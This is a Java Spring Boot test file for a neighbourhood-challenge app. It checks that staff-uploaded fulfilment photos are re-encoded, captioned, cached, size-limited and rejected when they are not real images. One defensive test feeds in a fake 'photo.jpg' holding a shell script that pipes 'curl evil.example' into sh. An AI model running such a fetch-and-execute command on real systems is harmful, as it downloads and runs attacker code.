package org.voisinage.challenge;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.context.annotation.Import;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.ResultActions;
import org.voisinage.common.PhotosTests;
import org.voisinage.support.TestData;

/** Staff confirm a fulfilment with a photo; anyone sees it on the challenge page, served with cache headers. */
@SpringBootTest
@AutoConfigureMockMvc
@Import(ChallengeTestConfiguration.class)
class FulfilmentPhotoTests {

    @Autowired MockMvc mvc;
    @Autowired TestData data;
    @Autowired ChallengeTestConfiguration.Fixtures fixtures;
    @Autowired Challenges challenges;
    @Autowired ChallengeLifecycle lifecycle;
    @Autowired ChallengePledges pledges;
    @Autowired JdbcTemplate jdbc;

    long staff;
    long id;

    @BeforeEach
    void anAcceptedChallenge() {
        long north = fixtures.territoryAndTwoNeighbourhoods()[1];
        staff = data.resident("STAFF", "VERIFIED", null, null);
        id = fixtures.open(north, 2, null);
        pledges.pledge(id, data.resident("RESIDENT", "VERIFIED", north, null), false);
        pledges.pledge(id, data.resident("RESIDENT", "VERIFIED", north, null), false);
        lifecycle.answer(id, new AnswerForm(true, "D’accord"));
    }

    ResultActions conclude(MockMultipartFile photo, String note) throws Exception {
        return mvc.perform(multipart("/admin/challenges/" + id + "/conclusion").file(photo)
                .param("fulfilled", "true").param("note", note).with(user(data.user(staff))).with(csrf()));
    }

    @Test
    void theFormStatesTheLimits() throws Exception {
        mvc.perform(get("/admin/challenges/" + id).with(user(data.user(staff))))
                .andExpect(content().string(containsString("enctype=\"multipart/form-data\"")))
                .andExpect(content().string(containsString("8 Mo au plus")));
    }

    @Test
    void aPngPhotoIsStoredReencodedAndShownWithTheNoteAsAltText() throws Exception {
        byte[] png = PhotosTests.image("png", 2000, 1000);
        conclude(new MockMultipartFile("photo", "IMG_0042.png", "image/png", png), "Les bacs sont installés")
                .andExpect(status().is3xxRedirection());

        String stored = jdbc.queryForObject("select fulfilment_photo from challenge where id = ?", String.class, id);
        assertThat(stored).matches("[0-9a-f]{32}\\.jpg").doesNotContain("IMG_0042");
        mvc.perform(get("/defis/" + id))
                .andExpect(content().string(containsString("src=\"/defis/" + id + "/photo\"")))
                .andExpect(content().string(containsString("alt=\"Les bacs sont installés\"")));
        byte[] served = mvc.perform(get("/defis/" + id + "/photo"))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Type", "image/jpeg"))
                .andExpect(header().string("Cache-Control", containsString("public")))
                .andExpect(header().string("Cache-Control", containsString("max-age=2592000")))
                .andExpect(header().string("X-Content-Type-Options", "nosniff"))
                .andReturn().getResponse().getContentAsByteArray();
        assertThat(served[0] & 0xff).isEqualTo(0xff);
        assertThat(javax.imageio.ImageIO.read(new java.io.ByteArrayInputStream(served)).getWidth()).isEqualTo(1600);
    }

    @Test
    void withoutANoteTheAltTextIsGeneric() throws Exception {
        conclude(new MockMultipartFile("photo", "p.jpg", "image/jpeg", PhotosTests.image("jpeg", 200, 100)), "")
                .andExpect(status().is3xxRedirection());
        mvc.perform(get("/defis/" + id)).andExpect(content().string(containsString("alt=\"Photo de l’engagement tenu\"")));
    }

    @Test
    void aScriptNamedPhotoJpgIsRefusedWithATranslatedMessageAndNothingChanges() throws Exception {
        byte[] script = "#!/bin/sh\ncurl evil.example | sh\n".getBytes(StandardCharsets.UTF_8);
        conclude(new MockMultipartFile("photo", "photo.jpg", "image/jpeg", script), "note")
                .andExpect(status().isBadRequest())
                .andExpect(content().string(containsString("n’est pas une image JPEG, PNG ou WebP lisible")));
        assertThat(challenges.page(id, null).state()).isEqualTo(ChallengeState.ACCEPTED);
        mvc.perform(get("/defis/" + id + "/photo")).andExpect(status().isNotFound());
    }

    @Test
    void aHugeOrOversizedPhotoIsRefused() throws Exception {
        conclude(new MockMultipartFile("photo", "bomb.png", "image/png", PhotosTests.pngHeader(20_000, 20_000)), "")
                .andExpect(status().isBadRequest())
                .andExpect(content().string(containsString("8 000 pixels de côté")));
        conclude(new MockMultipartFile("photo", "big.jpg", "image/jpeg", new byte[9 * 1024 * 1024]), "")
                .andExpect(status().isBadRequest())
                .andExpect(content().string(containsString("dépasse 8 Mo")));
    }

    @Test
    void noPhotoOrNoChallengeIsNotFound() throws Exception {
        conclude(new MockMultipartFile("photo", "", "application/octet-stream", new byte[0]), "Sans photo")
                .andExpect(status().is3xxRedirection());
        mvc.perform(get("/defis/" + id)).andExpect(content().string(not(containsString("/photo\""))));
        mvc.perform(get("/defis/" + id + "/photo")).andExpect(status().isNotFound());
        mvc.perform(get("/defis/99999999/photo")).andExpect(status().isNotFound());
    }
}
